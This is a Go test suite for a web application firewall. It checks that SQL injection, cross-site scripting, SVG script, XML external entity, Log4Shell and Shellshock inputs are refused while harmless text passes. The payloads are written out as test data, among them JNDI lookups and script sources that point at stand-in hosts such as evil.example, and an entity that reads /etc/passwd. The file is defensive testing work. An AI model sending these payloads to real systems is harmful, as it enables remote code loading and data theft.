package waf_test

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"pavise.dev/pavise/internal/attacktest"
	"pavise.dev/pavise/schema"
	"pavise.dev/pavise/shield"
	"pavise.dev/pavise/waf"
)

func posted(media, body string) *http.Request {
	r := httptest.NewRequest(http.MethodPost, "https://api.example.com/v1/notes", strings.NewReader(body))
	r.Header.Set("Content-Type", media)
	r.Body = shield.NewBody(r.Body, 8<<20)
	return r
}

// verdict is the code and the first field of a refusal, "" for none.
func verdict(l *waf.Layer, r *http.Request) string {
	refusal, ok := errors.AsType[*shield.Refusal](l.Check(r, nil))
	if !ok {
		return ""
	}
	text := string(refusal.Code)
	for _, f := range refusal.Fields {
		text += " " + f.In + " " + f.Pointer + " " + f.Rule
	}
	return text
}

const (
	sqlAttack    = `"' or 1=1--"`
	scriptAttack = `"<script>alert(1)</script>"`
)

func TestARefusalNamesTheFieldAndTheDetector(t *testing.T) {
	l := layer(t, waf.Options{})
	for body, want := range map[string]string{
		`{"notes":[{"text":` + sqlAttack + `}]}`: "injection body /notes/0/text sql",
		`{"a~b/c":` + scriptAttack + `}`:         "injection body /… script",
		`{` + sqlAttack + `:1}`:                  "injection body /… sql",
		`{"a":"fine"}`:                           "",
		`{"a":1,"b":[true,null,2.5]}`:            "",
	} {
		if got := verdict(l, posted("application/json", body)); got != want {
			t.Errorf("%s: %q, want %q", body, got, want)
		}
	}
}

func TestWhatNobodyCanReadIsRefused(t *testing.T) {
	l := layer(t, waf.Options{})
	for name, c := range map[string]struct{ media, body, want string }{
		"a name twice":           {"application/json", `{"a":1,"a":2}`, "invalid_input body  form"},
		"half of a document":     {"application/json", `{"a":`, "invalid_input body  form"},
		"a document":             {"application/json", `{"a":1}`, ""},
		"an entity":              {"application/xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`, "invalid_input body  form"},
		"an element":             {"application/xml", `<a>b</a>`, ""},
		"a part without an end":  {"multipart/form-data; boundary=x", "--x\r\n", "invalid_input body  form"},
		"a semicolon in a form":  {"application/x-www-form-urlencoded", "a=1;b=2", "invalid_input body  form"},
		"a form":                 {"application/x-www-form-urlencoded", "a=1&b=2", ""},
		"bytes that are no text": {"text/plain", "\xff", "invalid_input body  form"},
		"a text":                 {"text/plain", "fine", ""},
		"UTF-16":                 {"text/plain; charset=utf-16", "fine", "unsupported_media"},
		"two lines of JSON":      {"application/x-ndjson", "{}\n[1]\n", ""},
		"a line that is none":    {"application/x-ndjson", "{}\n[1\n", "invalid_input body  form"},
	} {
		if got := verdict(l, posted(c.media, c.body)); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
	r := posted("application/json", `{"a":1}`)
	r.Header.Set("Content-Encoding", "gzip")
	if got := verdict(l, r); got != "unsupported_media" {
		t.Errorf("a body with a coding: %q", got)
	}
}

// A body that is no text goes on as it comes: nothing of it is read.
func TestBodiesThatAreNoTextAreNotRead(t *testing.T) {
	l := layer(t, waf.Options{})
	for _, media := range []string{"application/octet-stream", "image/png", "application/grpc", "application/pdf"} {
		r := posted(media, "' or 1=1--")
		if got := verdict(l, r); got != "" {
			t.Errorf("%s: %q", media, got)
		}
		body, err := shield.BodyOf(r)
		if err != nil || body.Rewind() {
			t.Errorf("%s: the body was kept", media)
		}
	}
}

// Attacks that call themselves something else are seen all the same: services read JSON whatever
// media type it has, fields of a form whatever their part says, and texts of XML in one piece.
func TestAttacksThatCallThemselvesSomethingElse(t *testing.T) {
	attacktest.Rows(t, 103, 111)
	l := layer(t, waf.Options{})
	part := func(head, text string) string {
		return "--x\r\nContent-Disposition: form-data; name=\"a\"" + head + "\r\n\r\n" + text + "\r\n--x--\r\n"
	}
	const parts = "multipart/form-data; boundary=x"
	const attack, harmless = `{"id":"1 or sleep(5)"}`, `{"id":"I sleep or read"}`
	for name, c := range map[string]struct{ media, body, want string }{
		"JSON as bytes":                   {"application/octet-stream", attack, "injection body /id sql"},
		"harmless JSON as bytes":          {"application/octet-stream", harmless, ""},
		"JSON as a picture":               {"image/png", attack, "injection body /id sql"},
		"JSON as a text":                  {"text/plain", attack, "injection body /id sql"},
		"harmless JSON as a text":         {"text/plain", harmless, ""},
		"JSON as a form":                  {"application/x-www-form-urlencoded", attack, "injection body /id sql"},
		"JSON by another name":            {"text/json", attack, "injection body /id sql"},
		"JSON with something behind":      {"application/octet-stream", attack + "\xff", "injection body /1 sql"},
		"a field of a type of pictures":   {parts, part("\r\nContent-Type: image/png", "1 or sleep(5)"), "injection body /a sql"},
		"a harmless one":                  {parts, part("\r\nContent-Type: image/png", "\x89PNG\xff"), ""},
		"a field that is no UTF-8":        {parts, part("", "1 or sleep(5) \xff"), "invalid_input body  form"},
		"the same, of a type of pictures": {parts, part("\r\nContent-Type: image/png", "1 or sleep(5)-- \xff"), "injection body /a sql"},
		"a file":                          {parts, part("; filename=\"b.png\"", "1 or sleep(5)"), ""},
		"XML in pieces":                   {"application/xml", "<a>1 union <!-- -->select<![CDATA[ ]]>password from users</a>", "injection body /a sql"},
		"harmless XML in pieces":          {"application/xml", "<a>a union <!-- -->selects<![CDATA[ ]]>its head</a>", ""},
	} {
		if got := verdict(l, posted(c.media, c.body)); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

// A picture in SVG, and a page in XHTML, may hold what a browser runs, whichever way it is written.
func TestPicturesThatRun(t *testing.T) {
	attacktest.Rows(t, 106, 111)
	l := layer(t, waf.Options{})
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`
	for body, want := range map[string]string{
		svg + ` viewBox="0 0 9 9"><style>.a{fill:red}</style><a xlink:href="https://example.com/"><path class="a" d="M0 0h9"/></a><text>O'Brien &amp; Sons</text></svg>`: "",
		"\xef\xbb\xbf" + svg + `/>`:                                                         "",
		svg + `><script>alert(1)</script></svg>`:                                            "injection body  script",
		svg + `><script xlink:href="https://evil.example/a.js"/></svg>`:                     "injection body  script",
		svg + ` onload="alert(1)"/>`:                                                        "injection body  script",
		svg + `><a xlink:href="java&#115;cript:alert(1)"><text>x</text></a></svg>`:          "injection body  script body /svg/a/href script",
		`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`: "injection body  script",
		`<x:y xmlns:x="http://www.w3.org/1999/xhtml" onclick="alert(1)"/>`:                  "injection body  script",
		`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + svg + `>&x;</svg>`:     "invalid_input body  form",
	} {
		for _, media := range []string{"image/svg+xml", "application/xml"} {
			if media == "application/xml" && body[0] == 0xef {
				continue
			}
			if got := verdict(l, posted(media, body)); got != want {
				t.Errorf("%s: %s: %q, want %q", media, body, got, want)
			}
		}
		upload := "--x\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.SVG\"\r\nContent-Type: image/png\r\n\r\n" + body + "\r\n--x--\r\n"
		if got := verdict(l, posted("multipart/form-data; boundary=x", upload)); (got == "") != (want == "") {
			t.Errorf("uploaded: %s: %q", body, got)
		}
	}
	if got := verdict(l, posted("application/xml", `<note><script>the second act</script><onload>8 tons</onload></note>`)); got != "" {
		t.Errorf("XML that no browser runs: %q", got)
	}
}

func TestExceptionsHoldForTheirFieldAndDetectors(t *testing.T) {
	l := layer(t, waf.Options{Except: []waf.Exception{
		{In: "body", Pointer: "/comments/*/text", Detectors: []string{"sql"}},
		{In: "body", Pointer: "/page/**"},
		{In: "query", Pointer: "/q", Detectors: []string{"sql"}},
	}})
	for body, want := range map[string]string{
		`{"comments":[{"text":` + sqlAttack + `}]}`:               "",
		`{"comments":[{"text":` + scriptAttack + `}]}`:            "injection body /comments/0/text script",
		`{"comments":[{"title":` + sqlAttack + `}]}`:              "injection body /comments/0/title sql",
		`{"comments":[{"text":{"a":` + sqlAttack + `}}]}`:         "injection body /comments/0/text/a sql",
		`{"page":{"a":[` + sqlAttack + `,` + scriptAttack + `]}}`: "",
	} {
		if got := verdict(l, posted("application/json", body)); got != want {
			t.Errorf("%s: %q, want %q", body, got, want)
		}
	}
	r := httptest.NewRequest(http.MethodGet, "https://api.example.com/?q=%27%20or%201=1--&p=%27%20or%201=1--", nil)
	if got := verdict(l, r); got != "injection query /p sql" {
		t.Error(got)
	}
}

func TestLevels(t *testing.T) {
	for text, want := range map[string][3]bool{ // refused at low, default, high
		"' or 1=1--":                {true, true, true},
		"admin'--":                  {false, true, true},
		"1 or 1":                    {false, false, true},
		"<style>b{}</style>":        {false, false, true},
		"fine, thanks; and you?":    {false, false, false},
		"${jndi:ldap://evil.org/a}": {true, true, true},
	} {
		for i, level := range []waf.Level{waf.Low, waf.Default, waf.High} {
			got := verdict(layer(t, waf.Options{Level: level}), posted("text/plain", text)) != ""
			if got != want[i] {
				t.Errorf("%s: %q refused: %v, want %v", level, text, got, want[i])
			}
		}
	}
}

func TestOnlyTheDetectorsThatAreNamedAreAsked(t *testing.T) {
	l := layer(t, waf.Options{Detectors: []string{"script"}})
	if got := verdict(l, posted("application/json", sqlAttack)); got != "" {
		t.Error(got)
	}
	if got := verdict(l, posted("application/json", scriptAttack)); got == "" {
		t.Error("passes")
	}
	for name, o := range map[string]waf.Options{
		"a detector":  {Detectors: []string{"sqli"}},
		"a level":     {Level: "paranoid"},
		"an except":   {Except: []waf.Exception{{In: "body", Detectors: []string{"x"}}}},
		"a place":     {Except: []waf.Exception{{In: "trailer"}}},
		"a pointer":   {Except: []waf.Exception{{In: "body", Pointer: "comment"}}},
		"stars first": {Except: []waf.Exception{{In: "body", Pointer: "/**/a"}}},
	} {
		if _, err := waf.New(o); err == nil {
			t.Errorf("%s that is none is accepted", name)
		}
	}
}

func TestMoreTextThanIsLookedAtIsRefused(t *testing.T) {
	l := layer(t, waf.Options{MaxText: 1000})
	if got := verdict(l, posted("text/plain", strings.Repeat("a", 900))); got != "" {
		t.Error(got)
	}
	if got := verdict(l, posted("text/plain", strings.Repeat("a", 1001))); got != "too_large" {
		t.Error(got)
	}
}

// Headers with a form of their own, and credentials, are asked for what is dangerous in a log or
// an environment alone.
func TestCredentialsAreNotReadAsText(t *testing.T) {
	l := layer(t, waf.Options{})
	for header, c := range map[string]struct{ good, bad string }{
		"Authorization":   {"Basic YWRtaW4nLS0gOnh4", "${jndi:ldap://evil.example/a}"},
		"X-Api-Key":       {"pv_' or 1=1--", "() { :;}; id"},
		"Accept-Language": {"en;q=0.9, de", "${jndi:ldap://evil.example/a}"},
		"X-Note":          {"it's fine", "' or 1=1--"},
		"Referer":         {"https://example.com/?a=1&b=it%27s", "https://example.com/?a=<script>alert(1)</script>"},
	} {
		r := httptest.NewRequest(http.MethodGet, "https://api.example.com/", nil)
		r.Header.Set(header, c.good)
		if got := verdict(l, r); got != "" {
			t.Errorf("%s: %s: %s", header, c.good, got)
		}
		r.Header.Set(header, c.bad)
		if got := verdict(l, r); !strings.HasPrefix(got, "injection header /"+header) {
			t.Errorf("%s: %s: %q", header, c.bad, got)
		}
	}
}

const described = `
openapi: 3.1.0
info: {title: Notes, version: "1"}
paths:
  /v1/notes:
    post:
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                id: {type: string, format: uuid}
                kind: {enum: ["' or 1=1--", other]}
                text: {type: string}
      responses: {"200": {description: ok}}
`

// What the description confines needs no look, and is none.
func TestADescribedValueIsConfined(t *testing.T) {
	document, err := schema.Open("notes.yaml", []byte(described), schema.Options{})
	if err != nil {
		t.Fatal(err)
	}
	operation, err := document.Operation("POST /v1/notes")
	if err != nil {
		t.Fatal(err)
	}
	l := layer(t, waf.Options{Described: operation})
	for body, want := range map[string]string{
		`{"kind":` + sqlAttack + `}`: "",
		`{"text":` + sqlAttack + `}`: "injection body /text sql",
		`{"text":"fine"}`:            "",
	} {
		r := posted("application/json", body)
		if err := operation.Check(r, nil); err != nil {
			t.Fatal(err)
		}
		if got := verdict(l, r); got != want {
			t.Errorf("%s: %q, want %q", body, got, want)
		}
	}
}

// The same text has the same verdict in a query and in a body, and nothing panics.
func FuzzVerdicts(f *testing.F) {
	for _, p := range payloads(f) {
		f.Add(p.text)
	}
	for _, s := range []string{"", "\xff", "%", "%u", "&#", "&#x110000;", `\u`, `\u{`, "${", "${${", "{{", "<", "</", "<a ", "'", "''", `\'`, "/*", "--", "@", "1e", "0x", "\u00a0", "`", "() {", "..", "../", ";", "$(", "\n", "*)(", "$ne", "QUE="} {
		f.Add(s)
	}
	l := layer(f, waf.Options{Level: waf.High})
	spots := places()
	f.Fuzz(func(t *testing.T, s string) {
		quoted, err := json.Marshal(s)
		if err != nil {
			t.Skip()
		}
		if json.Unmarshal(quoted, &s) != nil {
			t.Skip()
		}
		query, leaf := l.Check(spots["query"](s), nil), l.Check(spots["JSON leaf"](s), nil)
		if (query == nil) != (leaf == nil) {
			t.Errorf("%q: %v in a query, %v in a body", s, query, leaf)
		}
		for _, level := range []waf.Level{waf.Default, waf.Low} { // a lower level refuses no more
			if lower := layer(t, waf.Options{Level: level}).Check(spots["JSON leaf"](s), nil); lower != nil && leaf == nil {
				t.Errorf("%q: refused at %s and not at high", s, level)
			}
		}
	})
}

// A body of a kilobyte, as programs send them, read before.
func BenchmarkBody(b *testing.B) {
	body := `{"id":"0d0e4a3c-3c1c-4c1e-8f5e-1d2c3b4a5968","customer":{"name":"Seán O'Brien & Sons","mail":"sean.obrien@example.com","phone":"+353 1 234 5678"},` +
		`"address":{"street":"12 St. John's Road","city":"Dublin","zip":"D08 X7C3","country":"IE"},"items":[{"sku":"A-100","name":"Teapot, blue","count":2,"price":12.5},` +
		`{"sku":"B-7","name":"Cups (set of 6)","count":1,"price":30},{"sku":"C-21","name":"Tea; 100g -- Assam","count":4,"price":8.9}],` +
		`"note":"Please leave it at the neighbours' door if I'm not at home; they're usually in after 5. The bell doesn't work, so knock or call. Don't ring before 9 or after 20:00, and drop me a line when it's there. Thanks & kind regards!",` +
		`"tags":["gift","fragile"],"source":"https://shop.example.com/cart?id=77&from=mail","paid":true,"coupon":null,` +
		`"comment":"The last delivery was perfect: 3 parcels, all in one piece, and on time. I'd like the same driver again, if that's possible, or at least someone as careful."}`
	for len(body) < 1024 {
		body = strings.TrimSuffix(body, "}") + `,"more":"text"}`
	}
	escaped := strings.ReplaceAll(body, "O'Brien & Sons", "O%27Brien &amp; Sons")
	for name, c := range map[string]struct {
		body  string
		names bool // they are not declared
	}{"declared": {body, false}, "undeclared": {body, true}, "escapes": {escaped, false}} {
		b.Run(name, func(b *testing.B) {
			one := c.body
			l := layer(b, waf.Options{Described: parsed(b, one, c.names)})
			r := posted("application/json", one)
			r.Header = http.Header{"User-Agent": {"curl/8.5.0"}}
			b.SetBytes(int64(len(one)))
			b.ReportAllocs()
			for b.Loop() {
				if err := l.Check(r, nil); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// read is a body that was read before.
type read struct {
	value any
	names bool
}

func parsed(b *testing.B, body string, names bool) read {
	b.Helper()
	var v any
	if err := json.Unmarshal([]byte(body), &v); err != nil {
		b.Fatal(err)
	}
	return read{v, names}
}

// Texts implements waf.Described.
func (p read) Texts(_ *http.Request, each func(in string, names []string, text string) error) error {
	return p.walk(p.value, make([]string, 0, 8), each)
}

func (p read) walk(v any, names []string, each func(in string, names []string, text string) error) error {
	switch v := v.(type) {
	case string:
		return each("body", names, v)
	case map[string]any:
		for name, one := range v {
			if p.names {
				if err := each("body", append(names, name), name); err != nil {
					return err
				}
			}
			if err := p.walk(one, append(names, name), each); err != nil {
				return err
			}
		}
	case []any:
		for _, one := range v {
			if err := p.walk(one, append(names, "0"), each); err != nil {
				return err
			}
		}
	}
	return nil
}
